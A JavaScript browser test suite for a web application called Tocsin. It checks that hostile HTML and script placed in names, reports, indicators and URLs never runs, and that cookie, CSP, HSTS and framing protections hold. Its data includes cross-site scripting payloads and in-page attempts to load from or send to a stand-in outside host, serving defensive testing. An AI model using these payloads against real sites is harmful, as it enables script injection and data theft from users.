// SPDX-License-Identifier: Apache-2.0
// node test_walls.mjs TOCSIN WORK_DIR : what holds when somebody hostile writes what the page shows.
// Every text of a node that others give (names of assets, organisations, communities, people,
// incidents, indicators, references) is HTML and script; a person goes through all views of the page
// over TLS, and everything that the browser asks for, complains of or keeps is looked at. At the end
// the policy is tried from inside, so that a check that sees nothing cannot pass. Prints TAP; skipped
// as driver.mjs says.
import { execFileSync, spawn } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { createInterface } from "node:readline";
import { browserOfTheSystem, playwright } from "./driver.mjs";

const [program, work] = process.argv.slice(2).map((x) => resolve(x));
const WAIT = 30000;
const PASSWORD = "four brass bells ring";
const EVIL = `<img src=x onerror="window.hit=1"><script>window.hit=2</script><svg onload=window.hit=3>`;
const AWAY = "https://elsewhere.example/";

function hold(what, words) {
  if (!what) throw new Error(words);
}

// ---- a node full of it ----

const folder = mkdtempSync(join(tmpdir(), "tocsin-walls-")), node = join(folder, "node");
const run = (...words) => execFileSync(program, words, { stdio: ["ignore", "pipe", "pipe"] }).toString();

const quoted = (s) => `"${s.replaceAll('"', '""')}"`;

function fill() {
  const file = (name, text) => (writeFileSync(join(folder, name), text), join(folder, name));
  const evil = quoted(`West ${EVIL}`);
  run("init", node, "--title", `Node ${EVIL}`, "--org", `Authority ${EVIL}`, "--country", "NL", "--role", "authority");
  run("org", "add", node, `Water ${EVIL}`, "--country", "NL", "--role", "operator");
  run("community", "add", node, `Energy ${EVIL}`, "--alias", "energy");
  run("community", "join", node, "energy", "1");
  run("user", "add", node, "officer", "--org", "1", "--name", `Officer ${EVIL}`, "--roles",
    "reader,reporter,analyst,releaser,steward,operator,auditor", "--password-file", file("pw", PASSWORD + "\n"));
  run("import", node,
    file("assets.csv", `id,name,kind,sector,operator,country,lat,lon,people
S,${quoted("North " + EVIL)},substation,energy,${quoted("Authority " + EVIL)},NL,53,6,0
W,${evil},waterworks,drinking_water,${quoted("Water " + EVIL)},NL,52,5,1000
`),
    file("dependencies.csv", `asset,service,mode,group,need,supplier,share,buffer,restore
W,electricity,flow,,1,S,,PT4H,PT1H
`));
}

const indicator = (n) => ({ type: "indicator", spec_version: "2.1", id: `indicator--00000000-0000-4000-8000-${n}`,
  created: "2026-01-01T00:00:00.000Z", modified: "2026-01-01T00:00:00.000Z", valid_from: "2026-01-01T00:00:00Z",
  name: `Bells ${EVIL}`, description: EVIL, pattern: "[ipv4-addr:value = '198.51.100.3']", pattern_type: "stix",
  labels: [EVIL], external_references: [{ source_name: EVIL, url: `javascript:window.hit=4`, description: AWAY }] });

function certificate() {
  const [cert, key] = ["cert.pem", "key.pem"].map((f) => join(folder, f));
  try {
    execFileSync("openssl", ["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
      "-keyout", key, "-out", cert, "-days", "2", "-subj", "/CN=localhost", "-addext", "subjectAltName=DNS:localhost"],
    { stdio: "ignore" });
  } catch {
    console.log("1..0 # SKIP openssl is not here to make a certificate");
    process.exit(77);
  }
  return { cert, key };
}

async function serve({ cert, key }) {
  const child = spawn(program, ["serve", node, "--listen", "127.0.0.1:0", "--tls-cert", cert, "--tls-key", key],
    { stdio: ["ignore", "pipe", "ignore"] });
  const port = await new Promise((done, failed) => {
    createInterface({ input: child.stdout }).on("line", (l) => {
      const m = /https:\/\/127\.0\.0\.1:(\d+)/.exec(l);
      if (m) done(m[1]);
    });
    child.on("exit", (c) => failed(new Error(`serve ended with ${c}`)));
  });
  return { child, url: `https://localhost:${port}/` };
}

// ---- what the browser does ----

const asked = [], answers = [], complaints = [];
let page, context, running;

async function open(browser) {
  context = await browser.newContext({ locale: "en-GB", ignoreHTTPSErrors: true });
  await context.addInitScript(() => document.addEventListener("securitypolicyviolation",
    (e) => console.error(`content security policy: ${e.effectiveDirective} ${e.blockedURI}`)));
  context.on("request", (r) => asked.push(r.url()));
  context.on("response", (r) => answers.push(r));
  context.on("console", (m) => ["error", "warning"].includes(m.type()) && complaints.push(m.text()));
  context.on("weberror", (e) => complaints.push(e.error().message));
  page = await context.newPage();
  page.setDefaultTimeout(WAIT);
  page.on("websocket", (w) => asked.push(w.url()));
  page.on("dialog", (d) => (complaints.push(`a dialog: ${d.message()}`), d.dismiss()));
}

const shows = async (words) => (await page.locator("body").innerText()).includes(words);

async function until(says, ask) {
  for (const end = Date.now() + WAIT; ; await new Promise((r) => setTimeout(r, 50))) {
    if (await ask()) return;
    if (Date.now() > end) throw new Error(says);
  }
}

const notHit = async (where) =>
  hold(await page.evaluate(() => window.hit) === undefined, `script of a text ran: ${where}`);

/** From inside the page, with the session's cookie. */
const post = (path, body) => page.evaluate(async ([path, body]) => {
  const r = await fetch(path, { method: "POST", body: JSON.stringify(body),
    headers: { "Content-Type": "application/json", "X-Tocsin": "1" } });
  return [r.status, await r.text()];
}, [path, body]);

const tests = {
  async "a person signs in; the cookie is bound to the host, closed to script, TLS and other sites"() {
    await page.goto(running.url);
    await page.getByLabel("Login").fill("officer");
    await page.getByLabel("Password").fill(PASSWORD);
    await page.getByRole("button", { name: "Sign in", exact: true }).click();
    await page.locator("header.top").waitFor();
    const cookies = await context.cookies();
    hold(cookies.length, "there is no cookie");
    for (const c of cookies) {
      const s = JSON.stringify(c);
      hold(c.name.startsWith("__Host-"), `its name does not bind it to the host: ${s}`);
      hold(c.secure && c.httpOnly && c.sameSite === "Strict" && c.path === "/" && c.domain === "localhost", s);
    }
    hold(await page.evaluate(() => document.cookie) === "", "script reads a cookie");
    hold(await page.evaluate(() => localStorage.length + sessionStorage.length) === 0, "the page keeps something");
  },
  async "names in the head and on the map are text"() {
    hold(await shows(EVIL), "the hostile name is not shown, so nothing is tried");
    await page.locator(".map canvas").first().waitFor();
    await notHit("head and map");
  },
  async "a report, its drafts and what is released are text"() {
    await page.getByRole("tab", { name: "Report" }).click();
    await page.getByLabel("What happened").fill(`Fire ${EVIL}`);
    await page.getByLabel("Which asset failed").fill(`North ${EVIL}`);
    await page.getByLabel("Expected to last").fill("48");
    await page.getByRole("button", { name: "Report", exact: true }).click();
    await page.getByRole("tab", { name: /^Warnings/ }).click();
    const release = page.getByRole("button", { name: "Release" }).first();
    await release.waitFor();
    hold((await page.locator("article.card").first().innerText()).includes("<img src=x"), "the card has no hostile text");
    await release.click();
    await notHit("warnings");
  },
  async "what comes in and what is found is text"() {
    await page.getByRole("tab", { name: "Incoming" }).click();
    const [status, text] = await post("/api/v1/objects", { objects: [indicator("000000000001")] });
    hold(status < 300, `${status} ${text}`);
    await page.locator("ul.feed li", { hasText: "Bells" }).first().waitFor();
    await page.getByRole("searchbox").fill("Bells");
    await page.getByRole("searchbox").press("Enter");
    await page.getByText("1 found").waitFor();
    hold((await page.locator("ul.feed").innerText()).includes(EVIL), "the list has no hostile text");
    await notHit("incoming");
  },
  async "the graph is text"() {
    await page.getByRole("searchbox").fill("North");
    await page.getByRole("searchbox").press("Enter");
    await page.getByRole("button", { name: "around it" }).first().click();
    await page.getByRole("region", { name: "Graph" }).locator("svg .node").nth(1).waitFor();
    await notHit("graph");
    await page.getByRole("button", { name: "Back to the map" }).click();
  },
  async "the account is text"() {
    await page.getByRole("button", { name: "My account" }).click();
    const account = page.getByRole("dialog", { name: "My account" });
    await account.getByText("this one").waitFor();
    await account.getByRole("button", { name: "Set up a device" }).click();
    await account.locator(".secret").waitFor();
    await notHit("account");
    await account.getByRole("button", { name: "Close" }).click();
  },
  async "an address of the node with a script in it is not one"() {
    const other = await context.newPage();
    for (const path of [`?q=${encodeURIComponent(EVIL)}`, `#${EVIL}`, `signin?code=${encodeURIComponent(EVIL)}`, encodeURIComponent(EVIL)]) {
      await other.goto(running.url + path);
      hold(await other.evaluate(() => window.hit) === undefined, `script of the address ran: ${path}`);
    }
    await other.close();
    // what it could not find was asked for on purpose
    complaints.splice(0, complaints.length, ...complaints.filter((c) => !/status of 40[014]/.test(c)));
  },
  async "an answer of the API, opened as a page, runs nothing"() {
    const other = await context.newPage();
    for (const path of ["api/v1/objects", "api/v1/warnings", "api/v1/assets.geojson", "cap/"]) {
      const got = await other.goto(running.url + path);
      hold(!/html/.test(got.headers()["content-type"] ?? ""), `${path} is HTML`);
      hold(await other.evaluate(() => window.hit) === undefined, `script ran: ${path}`);
    }
    await other.close();
  },
  async "nobody but the node was asked for anything"() {
    const own = new URL(running.url).origin;
    const others = asked.filter((u) => !u.startsWith("data:") && new URL(u).origin !== own);
    hold(!others.length, others.join(" "));
    for (const part of ["/page.js", "/page.css", "/icon.svg", "/api/v1/me", "/api/v1/warnings", "/api/v1/search", "/api/v1/stream"])
      hold(asked.some((u) => u.startsWith(own + part)), `${part} was never asked for, so this is no check of it`);
  },
  async "every answer brings a policy without exceptions, HSTS and its type as final"() {
    hold(answers.length > 20, `only ${answers.length} answers`);
    for (const r of answers) {
      const h = r.headers(), csp = h["content-security-policy"] ?? "";
      hold(/default-src 'none'/.test(csp) && /frame-ancestors 'none'/.test(csp), `${r.url()}: ${csp}`);
      hold(!/unsafe-|\*|http:|https:|'nonce|'strict-dynamic'/.test(csp), `${r.url()}: ${csp}`);
      hold(+/max-age=(\d+)/.exec(h["strict-transport-security"])?.[1] >= 15768000, `${r.url()}: no HSTS`);
      hold(h["x-content-type-options"] === "nosniff", `${r.url()}: its type may be guessed`);
      hold(h["set-cookie"] === undefined || /^__Host-/.test(h["set-cookie"]), `${r.url()}: ${h["set-cookie"]}`);
      hold(!h["access-control-allow-origin"], `${r.url()}: open to other sites`);
    }
  },
  async "no browser complained, and the policy was never in the way"() {
    hold(!complaints.length, [...new Set(complaints)].join("; "));
  },
  async "the policy holds: what is tried from inside is refused, and seen to be"() {
    const n = asked.length;
    await page.evaluate((away) => {
      const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
      add(`<img src="/icon.svg" onload="window.hit=5">`);
      add(`<img src="${away}a.png">`);
      add(`<iframe src="${away}"></iframe>`);
      add(`<object data="${away}"></object>`);
      add(`<a id="evil" href="javascript:window.hit=6">x</a>`);
      document.getElementById("evil").click();
      const make = (tag, more) => document.head.append(Object.assign(document.createElement(tag), more));
      make("script", { textContent: "window.hit=7" });
      make("script", { src: away + "a.js" });
      make("style", { textContent: "body{color:red}" });
      make("link", { rel: "stylesheet", href: away + "a.css" });
      make("base", { href: away });
      try { setTimeout("window.hit=8", 0); } catch { /* refused at once */ }
      fetch(away).catch(() => 0);
      navigator.sendBeacon(away, "x");
      try { new WebSocket("wss://elsewhere.example/"); } catch { /* refused at once */ }
      const form = Object.assign(document.createElement("form"), { action: away, method: "post" });
      document.body.append(form);
      form.submit();
    }, AWAY);
    const want = ["script-src-attr", "img-src", "frame-src", "object-src", "script-src-elem", "style-src-elem",
      "base-uri", "script-src", "connect-src", "form-action"];
    for (const w of want)
      await until(`nothing was said of ${w}: ${[...new Set(complaints)].join("; ")}`,
        () => complaints.some((c) => c.startsWith(`content security policy: ${w} `)));
    await notHit("tried from inside");
    const left = answers.filter((r) => r.url().startsWith(AWAY));
    hold(!left.length && asked.length >= n, "somebody else answered");
    hold(page.url().startsWith(running.url), `the page went away: ${page.url()}`);
  },
  async "no other page can frame it"() {
    const other = await context.newPage();
    await other.goto("about:blank");
    await other.setContent(`<iframe src="${running.url}" name="framed"></iframe>`);
    await until("the frame never loaded", () => other.frames().length === 2 && other.frames()[1].url() !== "about:blank");
    hold(!(await other.frames()[1].content()).includes("page.js"), "it is shown in a frame");
    await other.close();
  },
};

const chromium = browserOfTheSystem();
const { chromium: driver } = playwright(work);
let number = 0, bad = 0, browser;
try {
  const files = certificate();
  fill();
  running = await serve(files);
  browser = await driver.launch({ executablePath: chromium,
    args: ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
      "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"] });
  await open(browser);
  console.log(`1..${Object.keys(tests).length}`);
  for (const [name, test] of Object.entries(tests)) {
    number++;
    try {
      await test();
      console.log(`ok ${number} - ${name}`);
    } catch (e) {
      bad++;
      console.log(`not ok ${number} - ${name}\n# ${String(e.message).replaceAll("\n", "\n# ")}`);
    }
  }
} finally {
  await browser?.close();
  running?.child.kill("SIGINT");
  rmSync(folder, { recursive: true, force: true });
}
process.exit(bad ? 1 : 0);
